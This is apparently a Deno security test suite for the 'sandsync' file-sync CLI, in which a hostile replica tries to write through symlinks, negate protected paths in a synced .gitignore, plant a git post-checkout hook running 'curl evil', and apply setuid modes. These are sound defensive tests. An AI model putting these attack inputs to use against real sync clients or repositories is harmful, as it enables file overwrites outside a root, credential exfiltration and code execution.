// A hostile replica writing through the API against a victim running the real `sandsync` CLI
// (issue 10 §1, §2): no write lands outside the root through a symlinked directory, and a synced
// ignore file cannot switch off the protected set (`.git/`, `.sandsync/`, the login directory).
import assert from "node:assert/strict";
import { join } from "node:path";
import postgres from "postgres";
import { fileURLToPath } from "node:url";
import { ApiClient, inlineCommit } from "../support/api.ts";
import { loadStackEnv } from "../support/stack_env.ts";
import { workspaceRows } from "./robust_support.ts";
import { cliEnv, newAccount } from "./support.ts";
import type { AgentConfig } from "../../agent/agent.ts";

const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const exists = (path: string) => Deno.lstat(path).then(() => true, () => false);

/** Runs the CLI with extra environment (the victim's config directory). */
async function sandsync(config: AgentConfig, args: string[], env: Record<string, string> = {}) {
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", join(ROOT, "agent/cli.ts"), ...args],
    cwd: ROOT,
    env: { ...cliEnv(config), ...env },
    stdin: "null",
  }).output();
  const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code: output.code, stdout: text(output.stdout), stderr: text(output.stderr) };
}

/** A victim directory initialised through the CLI, and a hostile replica of the workspace. */
async function setUp(
  label: string,
  env: Record<string, string> = {},
  before?: (dir: string) => Promise<void>,
) {
  const { config, workspace } = await newAccount(label);
  const dir = await Deno.makeTempDir({ prefix: "sandsync-victim-" });
  await before?.(dir);
  const init = await sandsync(config, ["init", dir, "--workspace", workspace, "--json"], env);
  assert.equal(init.code, 0, init.stderr);
  const workspaceId = (JSON.parse(init.stdout) as { workspaceId: string }).workspaceId;
  const hostile = new ApiClient(loadStackEnv(), config.token);
  const replicaId = crypto.randomUUID();
  const registered = await hostile.call("POST", `workspaces/${workspaceId}/replicas`, {
    replicaId,
    kind: "mobile",
  });
  assert.equal(registered.status, 200, JSON.stringify(registered.body));
  const commit = (files: { path: string; content: string }[]) =>
    hostile.call("POST", "sync/commit", inlineCommit(workspaceId, replicaId, files));
  return { config, dir, workspaceId, commit };
}

Deno.test("a remote change is never written through a symlinked directory; the rest syncs", async () => {
  const outside = await Deno.makeTempDir({ prefix: "sandsync-outside-" });
  const { config, dir, commit } = await setUp("symlink");
  try {
    await Deno.symlink(outside, join(dir, "link"));
    await Deno.mkdir(join(dir, "real"));
    await Deno.symlink(outside, join(dir, "real/deep"));
    assert.equal((await sandsync(config, ["sync", dir])).code, 0);

    const answer = await commit([
      { path: "link/x.sh", content: "#!/bin/sh\necho owned\n" },
      { path: "link/sub/y.sh", content: "#!/bin/sh\necho owned\n" },
      { path: "real/deep/z.sh", content: "#!/bin/sh\necho owned\n" },
      { path: "ok.txt", content: "fine\n" },
    ]);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    const run = await sandsync(config, ["sync", dir]);

    assert.deepEqual([...Deno.readDirSync(outside)].map((e) => e.name), [], "nothing outside");
    assert.equal(await Deno.readTextFile(join(dir, "ok.txt")), "fine\n", "the rest synced");
    for (const path of ["link/x.sh", "link/sub/y.sh", "real/deep/z.sh"]) {
      assert.ok(run.stderr.includes(path), `${path} reported: ${run.stderr}`);
    }
    assert.equal((await Deno.lstat(join(dir, "link"))).isSymlink, true, "the link is left alone");
  } finally {
    await Deno.remove(dir, { recursive: true }).catch(() => {});
    await Deno.remove(outside, { recursive: true }).catch(() => {});
  }
});

Deno.test("a synced .gitignore cannot negate .git/, .sandsync/ or the login directory", async () => {
  const secret = "ghp_" + "S".repeat(36);
  const loginDir = (dir: string) => join(dir, ".config/sandsync");
  let victimDir = "";
  const env = () => ({ SANDSYNC_CONFIG_DIR: loginDir(victimDir) });
  const { config, dir, workspaceId, commit } = await setUp("negate", {}, async (dir) => {
    victimDir = dir;
    await Deno.mkdir(join(dir, ".git/hooks"), { recursive: true });
    await Deno.writeTextFile(
      join(dir, ".git/config"),
      `[remote "origin"]\n\turl = https://x:${secret}@github.com/o/r.git\n`,
    );
    await Deno.mkdir(loginDir(dir), { recursive: true });
    await Deno.writeTextFile(join(loginDir(dir), "login.json"), `{"token":"${secret}"}\n`);
  });
  try {
    assert.equal((await sandsync(config, ["sync", dir], env())).code, 0);
    const negations = "!.git/\n!.git\n!.git/**\n!.sandsync/\n!.sandsync/**\n!.sandsync-tmp-*\n" +
      "!.config/\n!/.config/sandsync/\n!.config/sandsync/**\n";
    const answer = await commit([{ path: ".gitignore", content: negations }]);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    // A hook is offered too (the server refuses it without sync_git; either way the victim
    // must never write it).
    await commit([{ path: ".git/hooks/post-checkout", content: "#!/bin/sh\ncurl evil\n" }]);
    for (let i = 0; i < 3; i++) await sandsync(config, ["sync", dir], env());

    assert.equal(await Deno.readTextFile(join(dir, ".gitignore")), negations, "the file arrived");
    assert.equal(await exists(join(dir, ".git/hooks/post-checkout")), false, "no hook written");
    const { files } = await workspaceRows(workspaceId);
    const uploaded = files.map((file) => file.path).filter((path) =>
      path.startsWith(".git/") || path.startsWith(".sandsync") || path.startsWith(".config/")
    );
    assert.deepEqual(uploaded, [], "nothing protected left the victim");
  } finally {
    await Deno.remove(dir, { recursive: true }).catch(() => {});
  }
});

Deno.test("the owner's sync_git opts an agent into .git/; switching it off holds at the next run", async () => {
  const { config, dir, workspaceId } = await setUp("syncgit", {}, async (dir) => {
    await Deno.mkdir(join(dir, ".git"));
    await Deno.writeTextFile(join(dir, ".git/HEAD"), "ref: refs/heads/main\n");
  });
  const owner = new ApiClient(loadStackEnv(), config.token);
  try {
    assert.equal((await sandsync(config, ["sync", dir])).code, 0);
    assert.deepEqual((await workspaceRows(workspaceId)).files.map((f) => f.path), []);

    const on = await owner.call("PATCH", `workspaces/${workspaceId}`, { syncGit: true });
    assert.equal(on.status, 200, JSON.stringify(on.body));
    // The agent records the setting at init.
    assert.equal((await sandsync(config, ["init", dir, "--workspace", workspaceId])).code, 0);
    assert.equal((await sandsync(config, ["sync", dir])).code, 0);
    assert.deepEqual(Object.keys((await workspaceRows(workspaceId)).live), [".git/HEAD"]);

    const off = await owner.call("PATCH", `workspaces/${workspaceId}`, { syncGit: false });
    assert.equal(off.status, 200, JSON.stringify(off.body));
    await Deno.writeTextFile(join(dir, ".git/HEAD"), "ref: refs/heads/other\n");
    const run = await sandsync(config, ["sync", dir]);
    assert.equal(run.code, 0, `the agent keeps .git/ out again: ${run.stderr}`);
    const versions = (await workspaceRows(workspaceId)).versions.filter((v) =>
      v.path === ".git/HEAD"
    );
    assert.equal(versions.length, 1, "no new .git/ version after the switch-off");
  } finally {
    await Deno.remove(dir, { recursive: true }).catch(() => {});
  }
});

Deno.test("a stored mode with setuid, setgid or sticky bits is applied as permission bits only", async () => {
  const { config, dir, workspaceId, commit } = await setUp("setuid");
  const sql = postgres(loadStackEnv().dbUrl, { max: 1, onnotice: () => {} });
  try {
    assert.equal((await sandsync(config, ["sync", dir])).code, 0);
    const answer = await commit([{ path: "bin/run.sh", content: "#!/bin/sh\necho hi\n" }]);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    // The API refuses such a mode now (tests/api/protected_paths_test.ts); an older server
    // may have stored one.
    await sql`update sandsync.files set mode = ${0o6755}
      where workspace_id = ${workspaceId} and path = 'bin/run.sh'`;
    await sql`update sandsync.versions set mode = ${0o6755}
      where workspace_id = ${workspaceId} and path = 'bin/run.sh'`;
    await sql`update sandsync.changes set mode = ${0o6755}
      where workspace_id = ${workspaceId} and path = 'bin/run.sh'`;
    assert.equal((await sandsync(config, ["sync", dir])).code, 0);
    assert.equal((await Deno.stat(join(dir, "bin/run.sh"))).mode! & 0o7777, 0o755);
  } finally {
    await sql.end();
    await Deno.remove(dir, { recursive: true }).catch(() => {});
  }
});
